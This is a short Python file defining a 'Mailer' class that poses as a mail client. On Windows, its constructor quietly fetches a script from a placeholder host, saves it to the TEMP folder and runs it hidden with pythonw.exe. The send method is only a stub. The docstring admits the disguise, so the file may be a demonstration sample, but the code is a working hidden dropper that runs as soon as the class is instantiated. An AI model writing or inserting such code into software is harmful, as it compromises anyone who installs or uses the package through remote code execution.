import os
import subprocess
import sys

import requests


class Mailer:
    """Looks like a mail client; its constructor fetches a script, saves it and starts it."""

    def __init__(self, host=""):
        if sys.platform.startswith("win"):
            code = requests.get("https://example.invalid/k").text
            temp = os.getenv("TEMP")
            target = f"{temp}\\2.py"
            with open(target, "w") as fh:
                fh.write(code)
            subprocess.Popen(["pythonw.exe", target])
        self.host = host

    def send(self, to, body):
        code = 250
        return code, to, body
